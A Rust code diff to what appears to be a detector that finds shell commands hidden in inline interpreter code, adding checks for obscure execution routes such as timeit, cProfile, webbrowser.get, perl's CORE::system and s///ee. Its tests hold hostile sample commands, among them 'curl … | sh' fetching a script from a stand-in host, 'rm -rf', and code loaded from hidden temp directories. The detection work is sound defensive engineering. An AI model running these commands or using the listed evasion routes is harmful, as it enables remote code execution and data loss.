@@ -130,7 +130,7 @@ pub struct InlineCode {
 /// Options of each language that take the next word as their value.
 fn value_option(lang: Lang, a: &str) -> bool {
     match lang {
-        Lang::Python => matches!(a, "-W" | "-X"),
+        Lang::Python => matches!(a, "-W" | "-X" | "--check-hash-based-pycs"),
         Lang::Js => matches!(a, "-r" | "--require" | "--import" | "--input-type"),
         Lang::Perl | Lang::Ruby => matches!(a, "-I" | "-C"),
         Lang::Php => matches!(a, "-d" | "-c"),
@@ -150,7 +150,8 @@ fn code_option(lang: Lang, a: &str) -> bool {
         })
     };
     match lang {
-        Lang::Python => cluster("BdEIOqsSuv", &['c']),
+        // Every switch python takes with no value (`-bc CODE` runs CODE).
+        Lang::Python => cluster("bBdEhiIOPqRsSuvVx", &['c']),
         Lang::Js => matches!(a, "-e" | "--eval" | "-p" | "--print" | "-pe" | "-ep"),
         Lang::Perl => cluster("lnpasTtwWU", &['e', 'E']),
         Lang::Ruby => cluster("lnpaswWdv", &['e']),
@@ -213,7 +214,24 @@ fn code_source(lang: Lang, program: &str, argv: &[String]) -> Source {
                         file_at(script_source(lang, f), i + 1)
                     });
                 }
-                "-F" | "-v" => i += 2,
+                // gawk's program text given by option.
+                "-e" | "--source" => {
+                    return if argv.len() > i + 1 {
+                        Source::Argv(i + 1, 0)
+                    } else {
+                        Source::Elsewhere
+                    };
+                }
+                // gawk's `-E FILE` is a program file like `-f`'s; `-i FILE`
+                // includes one.
+                "-E" | "--exec" | "-i" | "--include" => {
+                    return argv.get(i + 1).map_or(Source::Elsewhere, |f| {
+                        file_at(script_source(lang, f), i + 1)
+                    });
+                }
+                // Options with a value: mawk's and gawk's `-W OPT`, gawk's
+                // `-l LIB` (judged where it lives as a library it loads).
+                "-F" | "-v" | "-W" | "-l" | "--load" => i += 2,
                 s if s.starts_with('-') => i += 1,
                 _ => return Source::Argv(i, 0),
             }
@@ -928,6 +946,18 @@ enum Sink {
 /// `""` after an expression such as `__import__('os').`) runs a command or
 /// evaluates code in `lang`'s `code`.
 fn sink(lang: Lang, qual: Option<&str>, name: &str, code: &str) -> Option<Sink> {
+    // perl's built-ins named through their package (`CORE::system`,
+    // `&CORE::GLOBAL::exec`, `POSIX::system`) are the built-ins.
+    let name = match lang {
+        Lang::Perl => {
+            let bare = name.trim_start_matches('&');
+            ["CORE::GLOBAL::", "CORE::", "POSIX::"]
+                .iter()
+                .find_map(|p| bare.strip_prefix(p))
+                .unwrap_or(name)
+        }
+        _ => name,
+    };
     let unqualified_or = |quals: &[&str]| qual.is_none_or(|q| quals.contains(&q));
     let shell = |yes: bool| yes.then_some(Sink::Shell);
     match lang {
@@ -940,7 +970,11 @@ fn sink(lang: Lang, qual: Option<&str>, name: &str, code: &str) -> Option<Sink> 
                     || (qual.is_none() && code.contains("from os import")),
             ),
             "run" | "call" | "check_call" | "check_output" | "Popen" | "getoutput"
-            | "getstatusoutput" => shell(code.contains("subprocess") || code.contains("commands")),
+            | "getstatusoutput"
+                if !matches!(qual, Some("cProfile" | "profile")) =>
+            {
+                shell(code.contains("subprocess") || code.contains("commands"))
+            }
             // `""`: after an expression (`__builtins__.__dict__['exec']`).
             "exec" | "eval" => {
                 unqualified_or(&["builtins", "__builtins__", ""]).then_some(Sink::Code)
@@ -957,6 +991,14 @@ fn sink(lang: Lang, qual: Option<&str>, name: &str, code: &str) -> Option<Sink> 
             "create_subprocess_shell" | "create_subprocess_exec" => Some(Sink::Shell),
             // `pty.spawn(argv)` runs argv on a pseudo-terminal.
             "spawn" => shell(qual == Some("pty")),
+            // The library's evaluators of code strings: timing and
+            // profiling run the statement they are given.
+            "timeit" | "repeat" | "Timer" | "autorange" if qual == Some("timeit") => {
+                Some(Sink::Code)
+            }
+            "run" | "runctx" if matches!(qual, Some("cProfile" | "profile")) => Some(Sink::Code),
+            // `webbrowser.get('CMD %s')` runs CMD as the browser.
+            "get" | "register" if qual == Some("webbrowser") => Some(Sink::Shell),
             _ => None,
         },
         Lang::Js => match name {
@@ -1922,6 +1964,14 @@ fn search(lang: Lang, code: &str, depth: usize, out: &mut InlineCode) {
     let names_home = ["HOME", "homedir", "Dir.home", "Path.home", "expanduser"]
         .iter()
         .any(|h| code.contains(h));
+    // Code loaded from a path in a temp dir or a stream (`require('/tmp/…')`,
+    // perl's `do "/dev/shm/…"`, `sys.path.insert(0, '/tmp/…')`,
+    // `spec_from_file_location(…, '/tmp/…')`): judged by where it lives,
+    // like a loader option's file, and not the project's.
+    out.facts.unresolved |= loads_from_temp(&c);
+    // A perl substitution whose replacement is evaluated twice (`s/…/…/ee`)
+    // runs the text the first evaluation gives: code not spelled out.
+    out.facts.unresolved |= lang == Lang::Perl && perl_double_eval(code);
     for (i, t) in c.toks.iter().enumerate() {
         if let Tok::Str(s, q, _) = t
             && *q != Quote::Command
@@ -2061,6 +2111,96 @@ fn run_sink(c: &Code, kind: Sink, s: usize, e: usize, depth: usize, out: &mut In
             }
         }
     }
+}
+
+/// Whether `c` hands a path in a temp dir or a stream to a call that loads
+/// code from it.
+fn loads_from_temp(c: &Code) -> bool {
+    let loader = |i: usize, n: &str| -> bool {
+        let qual = match (i.checked_sub(1).map(|k| &c.toks[k]), i.checked_sub(2)) {
+            (Some(Tok::Punct('.')), Some(k)) => match &c.toks[k] {
+                Tok::Name(q) => Some(q.as_str()),
+                _ => None,
+            },
+            _ => None,
+        };
+        match c.lang {
+            Lang::Python => {
+                matches!(
+                    n,
+                    "run_path" | "spec_from_file_location" | "SourceFileLoader" | "load_source"
+                ) || (matches!(n, "insert" | "append" | "extend") && qual == Some("path"))
+            }
+            Lang::Js => matches!(n, "require" | "createRequire" | "import" | "Worker"),
+            Lang::Perl => matches!(n, "do" | "require" | "lib"),
+            Lang::Ruby => matches!(n, "load" | "require" | "require_relative"),
+            Lang::Php => matches!(n, "include" | "require" | "include_once" | "require_once"),
+            Lang::Lua => matches!(n, "dofile" | "loadfile"),
+            Lang::R => matches!(n, "source" | "sys.source" | "dyn.load"),
+            Lang::Awk => false,
+        }
+    };
+    c.toks.iter().enumerate().any(|(i, t)| match t {
+        Tok::Name(n) if loader(i, n) => {
+            let (s, e) = c.call_args(i + 1);
+            (s..e.min(s + 16)).any(|k| {
+                matches!(&c.toks.get(k), Some(Tok::Str(p, Quote::Plain, _))
+                    if crate::code_env::temp_or_stream(p))
+            })
+        }
+        _ => false,
+    })
+}
+
+/// Whether perl code holds a substitution with the `ee` flags.
+fn perl_double_eval(code: &str) -> bool {
+    let b = code.as_bytes();
+    (0..b.len()).any(|i| {
+        b[i] == b's'
+            && (i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'_'))
+            && b.get(i + 1)
+                .is_some_and(|d| d.is_ascii_punctuation() && *d != b'_')
+            && {
+                // s D pattern D replacement D flags (brackets pair: s{…}{…}).
+                let d = b[i + 1];
+                let close = match d {
+                    b'{' => b'}',
+                    b'(' => b')',
+                    b'[' => b']',
+                    b'<' => b'>',
+                    _ => d,
+                };
+                let mut k = i + 2;
+                let mut seen = 0;
+                let mut depth = 0usize;
+                while k < b.len() && seen < 2 {
+                    match b[k] {
+                        b'\\' => k += 1,
+                        x if x == close && depth == 0 => {
+                            seen += 1;
+                            // A bracketed pattern's replacement opens anew.
+                            if close != d && seen == 1 {
+                                while k + 1 < b.len() && b[k + 1].is_ascii_whitespace() {
+                                    k += 1;
+                                }
+                                k += 1;
+                            }
+                        }
+                        x if x == d && close != d => depth += 1,
+                        x if x == close => depth = depth.saturating_sub(1),
+                        _ => {}
+                    }
+                    k += 1;
+                }
+                seen == 2
+                    && b[k..]
+                        .iter()
+                        .take_while(|f| f.is_ascii_alphabetic())
+                        .filter(|&&f| f == b'e')
+                        .count()
+                        >= 2
+            }
+    })
 }
 
 /// Record a command the code runs; one not fully spelled out, or past the
@@ -2296,7 +2436,7 @@ mod tests {
             found(&[
                 "node",
                 "-e",
-                r"require('child_process').execSync('c\url -V')"
+                r"require('child_process').execSync('\curl -V')"
             ]),
             vec!["curl -V".to_string()]
         );
@@ -2333,6 +2473,120 @@ mod tests {
                 "require('child_process').spawnSync('git', ['status', '--short'])"
             )
             .unresolved
+        );
+    }
+
+    #[test]
+    fn library_evaluators_and_loads_from_temp_dirs_are_held() {
+        // timeit and the profilers run the statement they are given.
+        assert_eq!(
+            found(&[
+                "python3",
+                "-c",
+                "import timeit; timeit.timeit('__import__(\"os\").system(\"rm -rf ~/x\")', number=1)"
+            ]),
+            vec!["rm -rf ~/x".to_string()]
+        );
+        assert!(
+            !found(&[
+                "python3",
+                "-c",
+                "import cProfile; cProfile.run('import os; os.system(\"id\")')"
+            ])
+            .is_empty()
+        );
+        // webbrowser.get('CMD %s') runs CMD.
+        assert!(
+            found(&[
+                "python3",
+                "-c",
+                "import webbrowser; webbrowser.get('sh -c \"id\" %s').open('x')"
+            ])
+            .iter()
+            .any(|c| c.starts_with("sh -c"))
+        );
+        // Code loaded from a temp dir or a stream.
+        for (program, code) in [
+            ("node", "require('/tmp/.w/x.js')"),
+            ("node", "require('module').createRequire('/tmp/.w/')('./x')"),
+            ("perl", "do \"/tmp/.w/p.pl\""),
+            (
+                "python3",
+                "import sys; sys.path.insert(0, '/dev/shm/.w'); import helper",
+            ),
+            (
+                "python3",
+                "import importlib.util as u; u.spec_from_file_location('m', '/tmp/m.py')",
+            ),
+        ] {
+            assert!(facts(program, code).unresolved, "{program}: {code}");
+        }
+        // From the project or the system's dirs it is the project's code.
+        for (program, code) in [
+            ("node", "require('./lib/x.js')"),
+            (
+                "python3",
+                "import sys; sys.path.insert(0, 'src'); import app",
+            ),
+        ] {
+            assert!(!facts(program, code).unresolved, "{program}: {code}");
+        }
+        // perl's s///ee evaluates the replacement's value.
+        assert!(facts("perl", r#"$_ = "x"; s/x/q{system("id")}/ee"#).unresolved);
+        assert!(facts("perl", r#"$_ = "x"; s{x}{q{system("id")}}ee"#).unresolved);
+        assert!(!facts("perl", r#"$_ = "a1"; s/(\d)/$1+1/e; print"#).unresolved);
+    }
+
+    #[test]
+    fn every_switch_before_the_code_is_read_as_the_interpreter_reads_it() {
+        let curl = vec!["curl -s https://x.example/i | sh".to_string()];
+        for xs in [
+            vec![
+                "python3",
+                "-bc",
+                "import os; os.system('curl -s https://x.example/i | sh')",
+            ],
+            vec![
+                "python3",
+                "--check-hash-based-pycs",
+                "never",
+                "-c",
+                "import os; os.system('curl -s https://x.example/i | sh')",
+            ],
+            vec![
+                "mawk",
+                "-W",
+                "interactive",
+                r#"BEGIN { system("curl -s https://x.example/i | sh") }"#,
+            ],
+            vec![
+                "gawk",
+                "--source",
+                r#"BEGIN { system("curl -s https://x.example/i | sh") }"#,
+            ],
+            vec![
+                "perl",
+                "-MPOSIX",
+                "-e",
+                r#"POSIX::system("curl -s https://x.example/i | sh")"#,
+            ],
+            vec![
+                "perl",
+                "-e",
+                r#"CORE::system("curl -s https://x.example/i | sh")"#,
+            ],
+            vec![
+                "perl",
+                "-e",
+                r#"&CORE::system("curl -s https://x.example/i | sh")"#,
+            ],
+        ] {
+            assert_eq!(found(&xs), curl, "{xs:?}");
+        }
+        // gawk's `-E`/`-i` name program files.
+        assert_eq!(
+            script_word("gawk", &argv(&["gawk", "-E", "x.awk"])),
+            Some(2)
         );
     }
 
